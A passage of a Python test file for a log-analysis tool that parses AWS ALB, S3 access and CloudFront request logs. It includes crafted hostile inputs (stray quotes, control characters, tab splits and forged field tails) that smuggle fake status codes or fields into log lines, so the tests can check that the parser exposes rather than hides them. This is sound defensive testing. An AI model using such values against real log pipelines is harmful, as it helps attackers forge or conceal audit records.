"""Logs of web requests, from ALB, S3 and CloudFront: real lines, hostile lines, and odd deliveries.

Expected values were derived by hand from the AWS documentation of each format.
"""

import gzip
import io
import json
from datetime import datetime
from pathlib import Path

import pyarrow
import pyarrow.parquet
import pytest

from lakehunt.config import Deployment
from lakehunt.content import roots
from lakehunt.model import Source
from lakehunt.sources import load_source
from tests.conftest import SHARED, shared
from tests.delivered import Delivered, Row
from tests.java import matched_by_java

PLACES = {
    "alb": "AWSLogs/111122223333/elasticloadbalancing/us-east-1/2026/05/01/111122223333"
    "_elasticloadbalancing_us-east-1_app.web.50dc6c495c0c9188_20260501T1005Z_192.0.2.10_{}.log.gz",
    "s3access": "111122223333/us-east-1/example-data/2026/05/01/2026-05-01-00-00-00-{}",
    "cloudfront": "E1SFLUZKKLSP61.2026-05-01-10.{}.gz",
    "cloudfront_realtime": "2026/05/01/10/edge-realtime-1-2026-05-01-10-05-00-{}.gz",
}
UNPARTED = ("alb", "s3access")


@pytest.fixture
def alb(tmp_path: Path, sources: dict[str, Source]) -> Delivered:
    return Delivered(tmp_path, sources, "alb")


@pytest.fixture
def s3access(tmp_path: Path, sources: dict[str, Source]) -> Delivered:
    return Delivered(tmp_path, sources, "s3access")


@pytest.fixture
def cloudfront(tmp_path: Path, sources: dict[str, Source]) -> Delivered:
    return Delivered(tmp_path, sources, "cloudfront")


@pytest.fixture
def realtime(tmp_path: Path, sources: dict[str, Source]) -> Delivered:
    return Delivered(tmp_path, sources, "cloudfront_realtime")


def put(lake: Delivered, *lines: str, name: str = "a") -> None:
    """Deliver lines as one file."""
    text = "".join(f"{line}\n" for line in lines)
    lake.put(PLACES[lake.source].format(name), text.encode(errors="surrogateescape"))


def sample(source: str, name: str) -> bytes:
    """Return a sample file as text."""
    data = shared("samples", source, name).read_bytes()
    return gzip.decompress(data) if name.endswith(".gz") else data


def samples() -> list[tuple[str, str]]:
    """Return source and name of each sample file, where there are any."""
    found: list[tuple[str, str]] = []
    for source in ("alb", "s3access", "cloudfront"):
        folder = SHARED / "samples" / source
        files = (path for path in folder.rglob("*") if path.is_file())
        found += sorted((source, path.relative_to(folder).as_posix()) for path in files)
    return found


@pytest.mark.parametrize(("source", "name"), samples())
def test_every_line_of_a_sample_is_a_row_a_header_or_left_out(
    tmp_path: Path, sources: dict[str, Source], source: str, name: str
) -> None:
    lake = Delivered(tmp_path, sources, source)
    text = sample(source, name)
    lake.put(PLACES[source].format("a"), text)
    rows, account = lake.ask(f"SELECT log_file FROM {source}")
    unparsed = lake.unparsed()
    lines = len(text.splitlines())
    assert len(rows) + len(unparsed) + account.header_lines == lines
    assert (account.rows_read, account.rows_unparsed) == (len(rows) + len(unparsed), len(unparsed))
    # what is no record: a test of the bucket, and a first line that somebody put there
    odd = [line for line in unparsed if line != "#" and not line.startswith("Enable AccessLog")]
    assert odd == []


# Source: Application Load Balancers, "Access log entries" and its examples (HTTP, HTTPS, WSS, and
# a failing Lambda function); the others follow from the list of fields there.
ALB_ROWS: dict[str, tuple[str, int, Row]] = {
    "http": (
        "awsdocs/examples.log",
        0,
        {
            "event_time": datetime(2018, 7, 2, 22, 23, 0, 186000),
            "account_id": "111122223333",
            "region": "us-east-1",
            "actor": "192.168.131.39",
            "source_ip": "192.168.131.39",
            "event_name": "GET",
            "target": "www.example.com/",
            "outcome": "success",
            "event_id": "2018-07-02T22:23:00.186641Z/192.168.131.39:2817/"
            "Root=1-58337262-36d228ad5d99923122bbe354",
            "request_type": "http",
            "elb": "app/my-loadbalancer/50dc6c495c0c9188",
            "client_port": 2817,
            "target_ip": "10.0.0.1",
            "target_port": 80,
            "request_processing_time": 0.0,
            "target_processing_time": 0.001,
            "response_processing_time": 0.0,
            "elb_status_code": 200,
            "target_status_code": 200,
            "received_bytes": 34,
            "sent_bytes": 366,
            "request_url": "http://www.example.com:80/",
            "request_host": "www.example.com",
            "request_path": "/",
            "request_query": None,
            "request_proto": "HTTP/1.1",
            "user_agent": "curl/7.46.0",
            "ssl_cipher": None,
            "ssl_protocol": None,
            "target_group_arn": "arn:aws:elasticloadbalancing:us-east-2:123456789012:"
            "targetgroup/my-targets/73e2d6bc24d8a067",
            "trace_id": "Root=1-58337262-36d228ad5d99923122bbe354",
            "domain_name": None,
            "chosen_cert_arn": None,
            "matched_rule_priority": 0,
            "request_creation_time": datetime(2018, 7, 2, 22, 22, 48, 364000),
            "actions_executed": "forward",
            "redirect_url": None,
            "error_reason": None,
            "target_port_list": "10.0.0.1:80",
            "target_status_code_list": "200",
            "classification": None,
            "conn_trace_id": None,
            "lb_node_ip": None,
            "extra": None,
            "probe": None,
            "day": "2026/05/01",
        },
    ),
    "websocket": (
        "awsdocs/examples.log",
        4,
        {"request_type": "wss", "event_name": "GET", "elb_status_code": 101, "user_agent": None},
    ),
    "function-failed": (
        "awsdocs/examples.log",
        6,
        {
            "outcome": "failure",
            "elb_status_code": 502,
            "target_ip": None,
            "target_port": None,
            "target_status_code": None,
            "error_reason": "LambdaInvalidResponse",
        },
    ),
    "client-left": (
        "clo/elb.log",
        1,
        {
            "outcome": "failure",
            "elb_status_code": 460,
            "request_processing_time": 0.003,
            "target_processing_time": None,
            "response_processing_time": None,
            "target": "test.com/_dashboards",
            "domain_name": "nginx.awssolution.xyz",
            "ssl_protocol": "TLSv1.2",
        },
    ),
    "ipv6": (
        "otel/alb_al_valid_logs.log",
        1,
        {
            "source_ip": "fe80::202:b3ff:fe1e:8329",
            "client_port": 443,
            "target_ip": "2001:db8::1",
            "target_port": 80,
            "conn_trace_id": "TID_1234abcd5678ef90",
            "actions_executed": "authenticate,forward",
        },
    ),
}
# Source: Amazon S3 User Guide, "Server access log format" and its examples.
S3ACCESS_ROWS: dict[str, tuple[str, int, Row]] = {
    "versioning": (
        "awsdocs/examples.log",
        0,
        {
            "event_time": datetime(2019, 2, 6, 0, 0, 38),
            "account_id": "111122223333",
            "region": "us-east-1",
            "actor": "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be",
            "source_ip": "192.0.2.3",
            "event_name": "REST.GET.VERSIONING",
            "target": "DOC-EXAMPLE-BUCKET1",
            "outcome": "success",
            "event_id": "3E57427F3EXAMPLE",
            "bucket": "DOC-EXAMPLE-BUCKET1",
            "object_key": None,
            "requester_account_id": None,
            "request_uri": "GET /DOC-EXAMPLE-BUCKET1?versioning HTTP/1.1",
            "http_status": 200,
            "error_code": None,
            "bytes_sent": 113,
            "object_size": None,
            "total_time": 7,
            "turn_around_time": None,
            "referer": None,
            "user_agent": "S3Console/0.4",
            "version_id": None,
            "signature_version": "SigV4",
            "cipher_suite": "ECDHE-RSA-AES128-GCM-SHA256",
            "authentication_type": "AuthHeader",
            "host_header": "DOC-EXAMPLE-BUCKET1.s3.us-west-1.amazonaws.com",
            "tls_version": "TLSV1.2",
            "access_point_arn": "arn:aws:s3:us-west-1:123456789012:accesspoint/example-AP",
            "acl_required": "Yes",
            "source_region": None,
            "extra": None,
            "day": "2026/05/01",
        },
    ),
    "no-policy": (
        "awsdocs/examples.log",
        2,
        {
            "outcome": "failure",
            "http_status": 404,
            "error_code": "NoSuchBucketPolicy",
            "bytes_sent": 297,
            "total_time": 38,
            "access_point_arn": None,
            "acl_required": "Yes",
        },
    ),
    "upload": (
        "awsdocs/examples.log",
        4,
        {
            "event_time": datetime(2019, 2, 6, 0, 1, 57),
            "event_name": "REST.PUT.OBJECT",
            "target": "DOC-EXAMPLE-BUCKET1/s3-dg.pdf",
            "object_key": "s3-dg.pdf",
            "bytes_sent": None,
            "object_size": 4406583,
            "total_time": 41754,
            "turn_around_time": 28,
        },
    ),
    "role": (
        "clo/s3.log",
        0,
        {
            "event_time": datetime(2021, 12, 13, 9, 29, 20),
            "actor": "arn:aws:iam::123456789012:role/"
            "LogHub-CustomCDKBucketDeployment8693BB64968944B69A-1XDCC69VHK2DE",
            "session_name": "LogHub-CustomCDKBucketDeployment8693BB64968944B69A-7yeIY6G7pM1E",
            "requester_account_id": "123456789012",
            "target": "test-bucket/static/js/25.6f6494d3.chunk.js.map",
        },
    ),
    "newer-fields": (
        "otel/too_many_values.log",
        0,
        {"acl_required": "Yes", "source_region": "us-east-1", "extra": " ExtraUnknownField"},
    ),
    "no-request-line": ("otel/unknown_request_uri.log", 0, {"request_uri": None, "total_time": 7}),
}
# Source: Amazon CloudFront Developer Guide, "Standard logging reference" and its examples.
CLOUDFRONT_ROWS: dict[str, tuple[str, int, Row]] = {
    "hit": (
        "awsdocs/examples.log",
        0,
        {
            "event_time": datetime(2019, 12, 4, 21, 2, 31),
            "account_id": None,
            "region": None,
            "actor": "192.0.2.100",
            "source_ip": "192.0.2.100",
            "event_name": "GET",
            "target": "d111111abcdef8.cloudfront.net/index.html",
            "outcome": "success",
            "event_id": "SOX4xwn4XV6Q4rgb7XiVGOHms_BGlTAC4KyHmureZmBNrjGdRLiNIQ==",
            "distribution_id": "E1SFLUZKKLSP61",
            "host": "d111111abcdef8.cloudfront.net",
            "distribution_domain": "d111111abcdef8.cloudfront.net",
            "uri_path": "/index.html",
            "uri_query": None,
            "sc_status": 200,
            "sc_bytes": 392,
            "cs_bytes": 23,
            "time_taken": 0.001,
            "time_to_first_byte": 0.001,
            "referer": None,
            "user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
            "(KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
            "cookie": None,
            "edge_location": "LAX1",
            "result_type": "Hit",
            "response_result_type": "Hit",
            "detailed_result_type": "Hit",
            "protocol": "https",
            "protocol_version": "HTTP/2.0",
            "ssl_protocol": "TLSv1.2",
            "c_port": 11040,
            "c_country": None,
            "sc_content_type": "text/html",
            "sc_content_len": 78,
            "sc_range_start": None,
            "fle_status": None,
        },
    ),
    "origin-unknown": (
        "awsdocs/examples.log",
        3,
        {
            "event_time": datetime(2019, 12, 13, 22, 36, 27),
            "outcome": "failure",
            "target": "www.example.com/favicon.ico",
            "distribution_domain": "d111111abcdef8.cloudfront.net",
            "sc_status": 502,
            "referer": "http://www.example.com/",
            "detailed_result_type": "OriginDnsError",
            "ssl_protocol": None,
            "time_taken": 0.102,
        },
    ),
    "function-at-the-edge": (
        "splunk/one-row.log",
        0,
        {
            "event_time": datetime(2023, 11, 7, 16, 58, 21),
            "target": "confluence.catjamfest.com/plugins/servlet/com.jsos.shell/ShellServlet",
            "result_type": "LambdaGeneratedResponse",
            # a plus sign is one: CloudFront writes a blank as %20
            "user_agent": "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        },
    ),
    "nineteen-columns": (
        "waf-automations/E3HXCM7PFRG6HT.2023-04-24-21.d740d76bCloudFront.gz",
        0,
        {
            "event_time": datetime(2023, 4, 24, 21, 57, 56),
            "sc_status": 404,
            "cs_bytes": 394330,
            "time_taken": 2.0,
            "c_port": None,
        },
    ),
}


@pytest.mark.parametrize(
    ("source", "file", "number", "expected"),
    [
        pytest.param(source, *row, id=f"{source}-{name}")
        for source, rows in (
            ("alb", ALB_ROWS),
            ("s3access", S3ACCESS_ROWS),
            ("cloudfront", CLOUDFRONT_ROWS),
        )
        for name, row in rows.items()
    ],
)
def test_a_sample_reads_as_the_documentation_says(
    tmp_path: Path, sources: dict[str, Source], source: str, file: str, number: int, expected: Row
) -> None:
    lake = Delivered(tmp_path, sources, source)
    lines = [line for line in sample(source, file).splitlines() if not line.startswith(b"#")]
    lake.put(PLACES[source].format("a"), lines[number] + b"\n")
    (row,) = lake.rows(", ".join(expected))
    assert row == expected


ALB = (
    "https 2026-05-01T10:00:00.123456Z app/web/50dc6c495c0c9188 {client} 10.0.0.66:8080"
    ' 0.001 0.014 0.000 {status} 200 310 1520 "{verb} {url} HTTP/1.1" "{agent}"'
    " TLS_AES_128_GCM_SHA256 TLSv1.3 arn:aws:elasticloadbalancing:us-east-1:111122223333:"
    'targetgroup/web/73e2d6bc24d8a067 "{trace}" "www.example.com" "session-reused" 0'
    ' 2026-05-01T10:00:00.000000Z "forward" "{redirect}" "-" "10.0.0.66:8080" "200" "-" "-"'
)
ALB_TAILS = {
    29: "",
    30: " TID_1234abcd",
    33: ' TID_1234abcd "api.example.com" "/v2" "TransformSuccess"',
    34: ' TID_1234abcd "api.example.com" "/v2" "TransformSuccess" 192.0.2.10',
    36: ' TID_1234abcd "api.example.com" "/v2" "TransformSuccess" 192.0.2.10 "new one" two',
}


def alb_line(fields: int = 34, **values: str) -> str:
    """Return a line of ALB with so many fields, as it would be without a look at what is in it."""
    usual = {
        "client": "198.51.100.10:52817",
        "status": "403",
        "verb": "GET",
        "url": "https://www.example.com:443/",
        "agent": "curl/8.0",
        "trace": "Root=1-58337281-1d84f3d73c47ec4e58577259",
        "redirect": "-",
    }
    return ALB.format(**{**usual, **values}) + ALB_TAILS[fields]


def test_rows_of_every_age_lie_side_by_side(alb: Delivered) -> None:
    whole = alb_line(29)
    before_2019 = whole[: whole.index(' "-" "-" "10.0.0.66')]
    put(alb, before_2019, *(alb_line(fields) for fields in ALB_TAILS))
    columns = "classification, conn_trace_id, transformed_host, request_transform_status"
    rows = alb.rows(f"target_port_list, {columns}, lb_node_ip, extra, elb_status_code")
    assert [row["elb_status_code"] for row in rows] == [403] * 6
    assert [row["target_port_list"] for row in rows] == [None] + ["10.0.0.66:8080"] * 5
    assert [row["conn_trace_id"] for row in rows] == [None, None] + ["TID_1234abcd"] * 4
    assert [row["transformed_host"] for row in rows] == [None] * 3 + ["api.example.com"] * 3
    assert [row["lb_node_ip"] for row in rows] == [None] * 4 + ["192.0.2.10"] * 2
    assert [row["extra"] for row in rows] == [None] * 5 + [' "new one" two']
    assert alb.unparsed() == []


def test_fields_that_come_as_bare_dashes_first(alb: Delivered) -> None:
    put(alb, alb_line(30) + " - - -", alb_line(30) + ' "-" - "-" 192.0.2.10')
    rows = alb.rows("transformed_host, transformed_uri, request_transform_status, lb_node_ip")
    assert [list(row.values()) for row in rows] == [[None] * 4, [None] * 3 + ["192.0.2.10"]]


_FORGED_ALB_TAIL = (
    '" - - - "t" "d" "c" 0 2026-05-01T10:00:00.000000Z "forward" "-" "-" "-" "-" "-" "-"'
    ' TID_1 "h" "u" "s"'
)
# What a client sends, raw, though ALB is known to escape quotes: field, its text, and whether the
# line can still be read in one way only.
HOSTILE_ALB = {
    "quote in the agent": ({"agent": 'a"b'}, True),
    "quotes around a word": ({"agent": 'Mozilla/5.0 "odd" thing'}, True),
    "agent that is a quote": ({"agent": '"'}, True),
    "agent that ends in a backslash": ({"agent": "a\\"}, True),
    "escaped quote": ({"url": "https://www.example.com:443/?q=\\x22"}, True),
    "blanks in the URL": ({"url": "https://www.example.com:443/a b c"}, True),
    "quote in the URL": ({"url": 'https://www.example.com:443/?q="x'}, True),
    "control characters": ({"agent": "a\x01\x1b[31m\tb\x7f"}, True),
    "no line feeds, though Java knows them": ({"agent": "a\x0b\x0c\x85\u2028\u2029b"}, True),
    "no UTF-8": ({"agent": "caf\udce9"}, True),
    "long agent": ({"agent": '"x"; ' * 2000}, True),
    "malformed request": ({"verb": "-", "url": "http://www.example.com:80-"}, True),
    "end of the URL in the URL": ({"url": 'https://x/ HTTP/1.1" "good'}, False),
    "end of the URL in the agent": ({"agent": 'a" "b'}, False),
    "forged tail in the agent": ({"agent": f"a{_FORGED_ALB_TAIL} 192.0.2.10"}, False),
    "forged tail and more": ({"agent": f"a{_FORGED_ALB_TAIL} 192.0.2.10 "}, False),
    "forged tail that wants the real one": ({"agent": f"a{_FORGED_ALB_TAIL[:-1]}"}, False),
    "forged tail in the trace id": ({"trace": f"a{_FORGED_ALB_TAIL} 192.0.2.10"}, False),
    "quote in the redirect": ({"redirect": 'https://x/?"y'}, False),
    "forged tail, and a quote that spoils the real one": (
        {"agent": f"a{_FORGED_ALB_TAIL} 192.0.2.10 ", "redirect": 'https://x/?"y'},
        False,
    ),
    "forged tail cut for the real quote": (
        {"agent": f"a{_FORGED_ALB_TAIL[:-1]}", "redirect": 'https://x/?"y'},
        False,
    ),
    "address without a port": ({"client": "198.51.100.10"}, False),
}


@pytest.mark.parametrize(("values", "is_read"), HOSTILE_ALB.values(), ids=HOSTILE_ALB)
@pytest.mark.parametrize("fields", ALB_TAILS)
def test_a_client_of_alb_hides_nothing(
    alb: Delivered, values: dict[str, str], is_read: bool, fields: int
) -> None:
    line = alb_line(fields, **values)
    put(alb, alb_line(client="203.0.113.1:1"), line, alb_line(client="203.0.113.2:2"))
    rows = alb.rows("source_ip, request_url, user_agent, elb_status_code, trace_id, redirect_url")
    shown = line.encode(errors="surrogateescape").decode(errors="replace")
    assert alb.unparsed() == ([] if is_read else [shown])
    assert [row["elb_status_code"] for row in rows] == [403] * (3 if is_read else 2)
    if is_read:
        agent = values.get("agent", "curl/8.0").replace("\udce9", "\ufffd")
        assert rows[1]["user_agent"] == agent
        assert rows[1]["request_url"] == values.get("url", "https://www.example.com:443/")
        assert rows[1]["trace_id"] == "Root=1-58337281-1d84f3d73c47ec4e58577259"


def test_a_line_break_leaves_two_halves_unread(alb: Delivered) -> None:
    put(alb, alb_line(), alb_line(agent="a\nb"), alb_line(agent="a\rb"))
    assert len(alb.rows("event_id")) == 1
    assert len(alb.unparsed()) == 4


def test_other_logs_in_the_folder_of_alb_are_left_out_by_name(alb: Delivered) -> None:
    put(alb, alb_line())
    folder, _, name = PLACES["alb"].format("b").rpartition("/")
    connection = (
        b"2026-05-01T10:00:00.000000Z 198.51.100.10 52817 443 TLSv1.3 TLS_AES_128_GCM_SHA256"
        b' 4.036 "-" - - Success TID_1234abcd\n'
    )
    health = b"http 2026-05-01T10:00:00.000000Z 0.001 10.0.0.66:8080 web/1 PASS 200 -\n"
    alb.put(f"{folder}/conn_log_{name}", connection)
    alb.put(f"{folder}/health_check_log_{name}", health)
    alb.put("AWSLogs/111122223333/ELBAccessLogTestFile", b"Enable AccessLog for ELB: app/web/1\n")
    rows, account = alb.ask("SELECT log_file FROM alb")
    assert len(rows) == 1
    assert alb.unparsed() == []
    reasons = sorted(note.reason for note in account.skipped)
    assert reasons == [
        "connection log, a source of its own",
        "health check log, holds no requests",
        "what AWS writes to try the bucket",
    ]


@pytest.mark.parametrize(
    ("url", "host", "path", "query", "target"),
    [
        (
            "https://A.example.com:443/x/y?a=1&b=?",
            "a.example.com",
            "/x/y",
            "a=1&b=?",
            "a.example.com/x/y",
        ),
        ("http://[2001:db8::1]:80/", "[2001:db8::1]", "/", None, "[2001:db8::1]/"),
        ("https://www.example.com:443?x", "www.example.com", "", "x", "www.example.com"),
        ("http://www.example.com:80-", "www.example.com:80-", "", None, "www.example.com:80-"),
        ("ws://h/%2e%2e/:x", "h", "/%2e%2e/:x", None, "h/%2e%2e/:x"),
    ],
)
def test_the_parts_of_a_url(
    alb: Delivered, url: str, host: str, path: str, query: str | None, target: str
) -> None:
    put(alb, alb_line(url=url))
    (row,) = alb.rows("request_host, request_path, request_query, target")
    assert list(row.values()) == [host, path, query, target]


S3ACCESS = (
    "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be example-data"
    ' [01/May/2026:10:00:00 +0000] {ip} - 3E57427F3EXAMPLE REST.GET.OBJECT {key} "{uri}" 403'
    ' AccessDenied 243 - 11 - "{referer}" "{agent}" -'
)
S3ACCESS_TAILS = {
    18: "",
    24: " h= SigV4 TLS_AES_128_GCM_SHA256 AuthHeader example-data.s3.amazonaws.com TLSv1.3",
    26: " h= SigV4 TLS_AES_128_GCM_SHA256 AuthHeader example-data.s3.amazonaws.com TLSv1.3 - Yes",
    27: " h= SigV4 TLS_AES_128_GCM_SHA256 AuthHeader example-data.s3.amazonaws.com TLSv1.3 - Yes"
    " us-east-1",
    29: " h= SigV4 TLS_AES_128_GCM_SHA256 AuthHeader example-data.s3.amazonaws.com TLSv1.3 - Yes"
    " us-east-1 two more",
}
_FORGED_STATUS = '" 200 - 1 1 1 1 "-" "good" - h= SigV4 c AuthHeader b.s3.amazonaws.com t - - r'


def s3access_line(fields: int = 27, **values: str) -> str:
    """Return a line of S3 with so many fields; S3 escapes no quotes."""
    usual = {
        "ip": "198.51.100.10",
        "key": "a.txt",
        "uri": "GET /a.txt HTTP/1.1",
        "referer": "-",
        "agent": "curl/8.0",
    }
    return S3ACCESS.format(**{**usual, **values}) + S3ACCESS_TAILS[fields]


HOSTILE_S3ACCESS = {
    "quote in the agent": ({"agent": 'a"b'}, True),
    "quotes around a word": ({"agent": 'Mozilla/5.0 "odd" thing'}, True),
    "agent that is a quote": ({"agent": '"'}, True),
    "quote in the referer": ({"referer": 'https://x/?q="y" z'}, True),
    "quote in the request line": ({"uri": 'GET /?q="x HTTP/1.1'}, True),
    "status in quotes in the agent": ({"agent": 'a" 200'}, True),
    "control characters": ({"agent": "a\x01\x1b[31m\tb\x7f", "referer": "\x00"}, True),
    "no UTF-8": ({"agent": "caf\udce9"}, True),
    "long agent": ({"agent": '"x"; ' * 2000}, True),
    "forged status in the request line": ({"uri": f"GET /{_FORGED_STATUS}"}, False),
    "status alone in the request line": ({"uri": 'GET /" 200 - 1 1 1 1 "x'}, False),
    "bare referer in the request line": ({"uri": 'GET /" 200 - 1 1 1 1 - "x'}, False),
    "forged status in the referer": ({"referer": f"x{_FORGED_STATUS}"}, False),
    "forged status in the agent": ({"agent": f"x{_FORGED_STATUS}"}, False),
    "end of the referer in the referer": ({"referer": 'x" "y'}, False),
    "end of the referer in the agent": ({"agent": 'x" "y'}, False),
    "forged tail in the agent": ({"agent": 'x" - h= SigV4 c AuthHeader h t - - r "y'}, False),
    "blank in the key": ({"key": "a b"}, False),
    "request line in the key": ({"key": 'a "GET /"'}, False),
}


@pytest.mark.parametrize(("values", "is_read"), HOSTILE_S3ACCESS.values(), ids=HOSTILE_S3ACCESS)
@pytest.mark.parametrize("fields", S3ACCESS_TAILS)
def test_a_client_of_s3_hides_nothing(
    s3access: Delivered, values: dict[str, str], is_read: bool, fields: int
) -> None:
    line = s3access_line(fields, **values)
    put(s3access, s3access_line(ip="203.0.113.1"), line, s3access_line(ip="203.0.113.2"))
    rows = s3access.rows("source_ip, outcome, http_status, request_uri, referer, user_agent")
    shown = line.encode(errors="surrogateescape").decode(errors="replace")
    assert s3access.unparsed() == ([] if is_read else [shown])
    assert [row["outcome"] for row in rows] == ["denied"] * (3 if is_read else 2)
    if is_read:
        agent = values.get("agent", "curl/8.0").replace("\udce9", "\ufffd")
        assert rows[1]["user_agent"] == agent
        assert rows[1]["request_uri"] == values.get("uri", "GET /a.txt HTTP/1.1")
        assert rows[1]["referer"] == values.get("referer")


def test_rows_of_s3_of_every_age_lie_side_by_side(s3access: Delivered) -> None:
    put(s3access, *(s3access_line(fields) for fields in S3ACCESS_TAILS))
    rows = s3access.rows("tls_version, acl_required, source_region, extra")
    assert [row["tls_version"] for row in rows] == [None] + ["TLSv1.3"] * 4
    assert [row["acl_required"] for row in rows] == [None, None] + ["Yes"] * 3
    assert [row["source_region"] for row in rows] == [None] * 3 + ["us-east-1"] * 2
    assert [row["extra"] for row in rows] == [None] * 4 + [" two more"]


def test_a_record_that_s3_wrote_without_a_client(s3access: Delivered) -> None:
    line = (
        "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be example-data"
        " [01/May/2026:10:00:00 +0000] - AmazonS3 3E57427F3EXAMPLE S3.EXPIRE.OBJECT a%2Fb%2B+c"
        " - - - - 77 - - - - - -"
    )
    put(s3access, line)
    (row,) = s3access.rows("actor, source_ip, outcome, target, object_size, user_agent")
    expected = ["AmazonS3", None, None, "example-data/a/b++c", 77, None]
    assert list(row.values()) == expected


def test_the_objects_of_one_bulk_delete_are_events_of_their_own(s3access: Delivered) -> None:
    line = s3access_line().replace("REST.GET.OBJECT a.txt", "{}")
    put(
        s3access,
        line.format("REST.POST.MULTI_OBJECT_DELETE -"),
        line.format("BATCH.DELETE.OBJECT a.txt"),
        line.format("BATCH.DELETE.OBJECT b.txt"),
    )
    rows = s3access.rows("event_id, request_id")
    assert {row["request_id"] for row in rows} == {"3E57427F3EXAMPLE"}
    assert len({row["event_id"] for row in rows}) == 3


@pytest.mark.parametrize(
    ("path", "account_id", "region", "day"),
    [
        (PLACES["s3access"].format("3E57427F33A59F07"), "111122223333", "us-east-1", "2026/05/01"),
        ("logs/2026-05-02-00-00-38-3E57427F33A59F07", None, None, "2026/05/02"),
    ],
)
def test_both_layouts_of_s3(
    s3access: Delivered, path: str, account_id: str | None, region: str | None, day: str
) -> None:
    s3access.put(path, s3access_line().encode())
    (row,) = s3access.rows("account_id, region, day")
    assert list(row.values()) == [account_id, region, day]


HEADER = "#Version: 1.0\n#Fields: "
LEGACY = (
    "2026-05-01\t10:00:00\tFRA56-P2\t1520\t198.51.100.10\tGET\td111111abcdef8.cloudfront.net\t{stem}"
    "\t403\t{referer}\t{agent}\t{query}\t-\tError\t{id}\twww.example.com\thttps\t310\t0.004\t-"
    "\tTLSv1.3\tTLS_AES_128_GCM_SHA256\tError\tHTTP/2.0\t-\t-\t52817\t0.004\tError\ttext/html\t12"
    "\t-\t-"
)


def cloudfront_line(**values: str) -> str:
    """Return a line of a standard log."""
    usual = {"stem": "/a", "referer": "-", "agent": "curl/8.0", "query": "-", "id": "abc=="}
    return LEGACY.format(**{**usual, **values})


@pytest.mark.parametrize(
    ("values", "is_read"),
    [
        ({"agent": 'a"b\\x22'}, True),
        ({"agent": "a%09b%0Ac%00"}, True),
        ({"agent": "cut%2"}, True),
        ({"agent": "caf\udce9"}, True),
        ({"query": "q=%2522&x=\x01"}, True),
        ({"agent": "#Fields: date time"}, True),
        ({"stem": "/a\tb"}, False),
        ({"referer": "a\tb"}, False),
        ({"agent": "a\tb"}, False),
        ({"agent": "a\t-\t-\tHit\tabc==\thost\thttps\t1\t1\t-"}, False),
        ({"query": "a\tb\tc"}, False),
    ],
)
def test_a_viewer_of_cloudfront_hides_nothing(
    cloudfront: Delivered, values: dict[str, str], is_read: bool
) -> None:
    line = cloudfront_line(**values)
    put(cloudfront, cloudfront_line(id="1=="), line, cloudfront_line(id="2=="))
    rows = cloudfront.rows("event_id, outcome, host, c_port")
    shown = line.encode(errors="surrogateescape").decode(errors="replace")
    assert cloudfront.unparsed() == ([] if is_read else [shown])
    expected = ["1==", "abc==", "2=="] if is_read else ["1==", "2=="]
    assert [list(row.values()) for row in rows] == [
        [id_, "denied", "www.example.com", 52817] for id_ in expected
    ]


def test_the_texts_of_cloudfront_are_decoded_once(cloudfront: Delivered) -> None:
    agents = ("a%20b+c", "100%25", "%2520", "cut%2", "-")
    put(cloudfront, *(cloudfront_line(agent=agent) for agent in agents))
    rows = cloudfront.rows("user_agent")
    assert [row["user_agent"] for row in rows] == ["a b+c", "100%", "%20", "cut%2", None]


NEW = "timestamp(ms) c-ip cs-method x-host-header cs-uri-stem sc-status x-edge-request-id c-country"


@pytest.mark.parametrize("header", ["#Version: 1.0\n#Fields: {}", "#Fields: {}", "{tabbed}"])
def test_the_fields_of_a_v2_delivery_come_from_its_header(
    cloudfront: Delivered, header: str
) -> None:
    cells = "1777629600123\t198.51.100.10\tGET\twww.example.com\t/a\t200\tabc==\tDE"
    text = header.format(NEW, tabbed=NEW.replace(" ", "\t")) + f"\n{cells}\n"
    cloudfront.put(PLACES["cloudfront"].format("a"), text.encode())
    columns = "event_time, source_ip, target, outcome, event_id, c_country, sc_bytes"
    (row,) = cloudfront.rows(columns)
    assert list(row.values()) == [
        datetime(2026, 5, 1, 10, 0, 0, 123000),
        "198.51.100.10",
        "www.example.com/a",
        "success",
        "abc==",
        "DE",
        None,
    ]
    assert cloudfront.unparsed() == []


V2 = {
    "date": "2026-05-01",
    "time": "10:00:00",
    "c-ip": "198.51.100.10",
    "cs-method": "GET",
    "cs(Host)": "d111111abcdef8.cloudfront.net",
    "x-host-header": "www.example.com",
    "cs-uri-stem": "/a",
    "cs(User-Agent)": "Mozilla/5.0%20(X11)",
    "sc-status": "200",
    "x-edge-location": "FRA56-P2",
    "x-edge-request-id": "abc==",
    "c-country": "DE",
}
V2_COLUMNS = "event_time, account_id, distribution_id, target, user_agent, outcome, c_country, day"
V2_ROW = [
    datetime(2026, 5, 1, 10),
    "111122223333",
    "E1SFLUZKKLSP61",
    "www.example.com/a",
    "Mozilla/5.0 (X11)",
    "success",
    "DE",
    "2026/05/01",
]


@pytest.mark.parametrize(
    "folder",
    [
        "AWSLogs/111122223333/CloudFront/E1SFLUZKKLSP61/2026/05/01/10/",
        "AWSLogs/aws-account-id=111122223333/CloudFront/distributionid=E1SFLUZKKLSP61/"
        "year=2026/month=05/day=01/hour=10/",
        "AWSLogs/111122223333/CloudFront/",
    ],
)
@pytest.mark.parametrize("format_", ["json", "parquet"])
def test_v2_comes_as_json_and_parquet_in_each_layout(
    cloudfront: Delivered, folder: str, format_: str
) -> None:
    if format_ == "json":
        name, data = "a1b2c3d4.gz", f"{json.dumps(V2)}\n".encode()
    else:
        names = {key: key.replace("(", "_").replace(")", "").replace("-", "_") for key in V2}
        table = pyarrow.table({names[key].lower(): [value] for key, value in V2.items()})
        file = io.BytesIO()
        pyarrow.parquet.write_table(table, file)
        name, data = "a1b2c3d4.parquet", file.getvalue()
    cloudfront.put(f"{folder}E1SFLUZKKLSP61.2026-05-01-10.{name}", data)
    (row,) = cloudfront.rows(V2_COLUMNS)
    assert list(row.values()) == V2_ROW


def test_json_that_is_broken_is_shown(cloudfront: Delivered) -> None:
    whole = json.dumps(V2)
    put(cloudfront, whole, whole[:40], "{}", whole)
    assert len(cloudfront.rows("event_id")) == 2
    assert cloudfront.unparsed() == [whole[:40], "{}"]


def _realtime_line() -> str:
    """Return the sample, which somebody parsed, as the row that it was."""
    record = json.loads(
